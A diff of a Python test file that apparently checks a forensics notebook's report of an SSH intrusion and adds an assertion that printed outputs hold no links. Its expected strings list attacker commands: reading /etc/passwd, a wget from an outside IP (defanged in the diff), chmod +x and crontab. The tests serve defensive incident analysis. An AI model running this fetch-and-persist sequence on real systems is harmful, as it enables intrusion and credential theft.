@@ -125,7 +125,7 @@ def test_the_linux_host_tells_its_session(own_folders: None, tmp_path: Path) -> 
         "269 logins, 1 from outside: dbadmin through /usr/sbin/sshd, pid 24851, session 196045",
         "2019-02-18 15:29:20.115 UTC, from 23.97.60.214",
         "cat /etc/passwd",
-        "wget http://23.97.60.214/",
+        "wget hxxp[:]//23.97.60.214/",
         "chmod +x",
         "crontab",
         "Inbound ssh that was let in: 1, 15:29:18 UTC from 23.97.60.214.",
@@ -165,6 +165,8 @@ def assert_inert_page(notebook: NotebookNode, folder: Path) -> None:
     """What the magics showed holds no link, and the page that is made of it fetches nothing."""
     for cell in notebook.cells:
         for output in cell.get("outputs", ()):
+            printed = output.get("text", "") or output.get("data", {}).get("text/plain", "")
+            assert not re.search(r"(?i)\b(?:https?|ftp)://|\bwww\.", printed), cell.source
             shown = "".join(output.get("data", {}).get("text/html", ""))
             assert not re.search(r"(?i)<(?:a|script|iframe|object|img)\b", shown), cell.source
             assert not re.search(r"(?i)https?://\d", shown), cell.source
